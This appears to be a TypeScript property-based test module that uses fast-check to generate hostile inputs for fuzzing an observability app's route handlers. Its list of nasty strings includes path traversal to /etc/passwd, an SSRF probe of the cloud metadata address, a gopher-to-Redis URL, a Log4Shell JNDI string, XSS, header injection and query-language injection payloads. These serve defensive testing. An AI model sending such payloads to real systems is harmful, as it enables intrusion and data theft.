// Hostile input for the route handlers: ids, label names and values, time ranges, query strings, slugs and JSON
// bodies that a person, a broken link or an attacker could send. Each generator mixes plausible values (so the
// input gets past the first check) with values built to break parsers, queries and URLs.
import fc from 'fast-check';

/** Strings chosen to break things: quotes and escapes of each query language, URL and header tricks, unicode. */
export const NASTY_STRINGS: readonly string[] = [
  '',
  ' ',
  '"',
  '\\',
  '\\"',
  '`',
  "'",
  '"} or vector(1) #',
  '"}) or up{job=~".+',
  '.+',
  '.*|a',
  '{service="x"} |= "',
  '"} | json | line_format "{{.secret}}',
  '} || { .a = 1',
  '" && span.x = "',
  '\n',
  '\r\nX-Injected: 1',
  '%0d%0aX-Injected:%201',
  '\u0000',
  '\u2028',
  '\ud800',
  '🔥',
  '日本語',
  '../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f',
  '/',
  '//evil.example',
  'http://169.254.169.254/latest/meta-data/',
  'file:///etc/passwd',
  'gopher://127.0.0.1:6379/_INFO',
  'http://[::1]:22/',
  '127.0.0.1:22',
  '@evil.example',
  '?x=1#frag',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/a}',
  'NaN',
  'Infinity',
  '-1',
  '1e308',
  '9007199254740993',
  'null',
  'undefined',
  '__proto__',
  'constructor',
  'x'.repeat(10_000),
];

const nasty = fc.constantFrom(...NASTY_STRINGS);

/** Any string: nasty ones, arbitrary unicode, and arbitrary code units (lone surrogates included). */
export const hostileString = fc.oneof(
  { weight: 3, arbitrary: nasty },
  { weight: 2, arbitrary: fc.string({ maxLength: 60 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.tuple(fc.string({ maxLength: 10 }), nasty, fc.string({ maxLength: 10 })).map(([a, b, c]) => a + b + c) },
);

/** Trace ids: valid 32/16 hex (any case), traceparents, base64 (Tempo 2.0), near misses and garbage. */
export const traceIdLike = fc.oneof(
  fc.stringMatching(/^[0-9a-f]{32}$/),
  fc.stringMatching(/^[0-9A-F]{16}$/),
  fc.stringMatching(/^00-[0-9a-f]{32}-[0-9a-f]{16}-0[01]$/),
  fc.stringMatching(/^[0-9a-f]{31,33}$/),
  fc.constantFrom('00000000000000000000000000000000', 'xVJ/uwysG5xbgJU+9jzTIw==', ' c5527fbb0cac1b9c5b80953ef63cd323 ', 'c5527fbb0cac1b9c5b80953ef63cd323/../x'),
  hostileString,
);

export const spanIdLike = fc.oneof(fc.stringMatching(/^[0-9a-f]{16}$/), fc.stringMatching(/^[0-9a-f]{15,17}$/), hostileString);

/** Label names: valid, almost valid, reserved, hostile. */
export const labelName = fc.oneof(
  fc.stringMatching(/^[a-zA-Z_][a-zA-Z0-9_]{0,20}$/),
  fc.constantFrom('__name__', 'alertname', 'service', 'job', '1abc', 'a-b', 'a.b', 'ä', ''),
  hostileString,
);

export const labelValue = hostileString;

/** A label set as the alert view carries it: JSON in a query parameter (or not JSON at all). */
export const labelsParam = fc.oneof(
  fc.dictionary(labelName, labelValue, { maxKeys: 5 }).map((labels) => JSON.stringify(labels)),
  fc.json({ maxDepth: 3 }),
  hostileString,
);

/** One end of a time range: relative, epoch ms/s, RFC3339, and everything that is not a time. */
export const timeExpr = fc.oneof(
  fc.constantFrom('now', 'now-1h', 'now-15m', 'now-7d', 'now-400d', 'now+1h', 'now-1h+2h', 'now-99999999d', 'now-', 'now-1x'),
  fc.integer({ min: -1, max: 4_102_444_800_000 }).map(String),
  fc.constantFrom('NaN', 'Infinity', '-Infinity', '-1', '0', '1e308', '-1e308', '1.5', '0x10', '', ' ', 'yesterday'),
  fc.constantFrom('2026-11-21T10:00:00Z', '2026-11-21T10:00:00+02:00', '2026-13-45T25:61:00Z', '2026-11-21', '1970-01-01T00:00:00Z', '9999-12-31T23:59:59Z'),
  hostileString,
);

/** A range that is sometimes fine and often reversed, empty, huge or nonsense. */
export const timeRange = fc.oneof(
  fc.tuple(timeExpr, timeExpr),
  fc.constantFrom<[string, string]>(['now', 'now-1h'], ['now-1h', 'now-1h'], ['now-5y', 'now'], ['0', '4102444800000'], ['now-1h', 'now']),
);

export const slugLike = fc.oneof(fc.stringMatching(/^[A-Za-z0-9_-]{1,24}$/), hostileString);
export const monthLike = fc.oneof(
  fc.constantFrom('2026-11', '2026-10', '2026-13', '2026-00', '0000-01', '9999-12', '2026-1', '26-11', '2026/11', 'latest'),
  hostileString,
);
export const sectionLike = fc.oneof(fc.constantFrom('slos', 'incidents', 'alert-quality', 'coverage', 'maturity', 'SLOS', ''), hostileString);
export const idLike = fc.oneof(fc.stringMatching(/^c[a-z0-9]{24}$/), fc.constantFrom('0', '-1', '1e9'), hostileString);

/** Query-string parameter names the routes read, so random values reach the checks behind them. */
export const PARAM_NAMES = [
  'from', 'to', 'at', 'services', 'service', 'span', 'profileType', 'baseline', 'labels', 'minDuration', 'maxDuration',
  'status', 'q', 'limit', 'tz', 'version', 'axis', 'next', 'download', 'code', 'state', 'iss', 'error', 'tenant',
  'filter', 'live', 'month', 'query', 'url', 'host', 'target', 'redirect',
] as const;

/** Hostile values for a query parameter, by its name. */
export const paramValue = (name: string): fc.Arbitrary<string> => {
  switch (name) {
    case 'from':
    case 'to':
    case 'at':
      return timeExpr;
    case 'labels':
      return labelsParam;
    case 'span':
      return spanIdLike;
    case 'services':
      return fc.array(labelValue, { maxLength: 25 }).map((values) => values.join(','));
    case 'limit':
    case 'version':
      return fc.oneof(fc.integer({ min: -5, max: 100_000 }).map(String), hostileString);
    case 'minDuration':
    case 'maxDuration':
      return fc.oneof(fc.constantFrom('100ms', '1s', '2m', '-1s', '1y', '0', '1e9h'), hostileString);
    case 'status':
      return fc.oneof(fc.constantFrom('any', 'error', 'ok', 'unset', 'ERROR'), hostileString);
    case 'baseline':
      return fc.oneof(fc.constantFrom('hour', 'none', '1-2', '2-1'), hostileString);
    default:
      return hostileString;
  }
};

/** A query string: some known parameters (sometimes repeated), some unknown ones, values hostile. */
export const queryString = fc
  .array(
    fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...PARAM_NAMES).chain((name) => paramValue(name).map((value) => [name, value] as const)) },
      { weight: 1, arbitrary: fc.tuple(hostileString, hostileString) },
    ),
    { maxLength: 8 },
  )
  .map((pairs) => {
    const params = new URLSearchParams();
    for (const [name, value] of pairs) params.append(name, safeForUrl(value));
    return params.toString();
  });

/** URLSearchParams cannot carry a lone surrogate: it becomes U+FFFD, as a browser would send it. */
export function safeForUrl(value: string): string {
  return value.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');
}

/** JSON bodies: arbitrary JSON, objects with the fields the routes read, and text that is not JSON. */
export const jsonBody = fc.oneof(
  fc.json({ maxDepth: 4 }),
  fc
    .record(
      {
        href: hostileString,
        path: hostileString,
        params: fc.dictionary(hostileString, hostileString, { maxKeys: 4 }),
        range: fc.record({ from: timeExpr, to: timeExpr }),
        definition: fc.json({ maxDepth: 3 }).map((text) => JSON.parse(text) as unknown),
        sli: fc.json({ maxDepth: 3 }).map((text) => JSON.parse(text) as unknown),
        yaml: hostileString,
        dryRun: fc.boolean(),
        version: fc.oneof(fc.integer(), hostileString),
        title: hostileString,
        owner: hostileString,
        dueDate: timeExpr,
        status: hostileString,
        month: monthLike,
        frozenBy: hostileString,
        axis: hostileString,
        value: fc.oneof(fc.double(), hostileString),
        tenant: hostileString,
      },
      { requiredKeys: [] },
    )
    .map((value) => JSON.stringify(value)),
  hostileString,
);
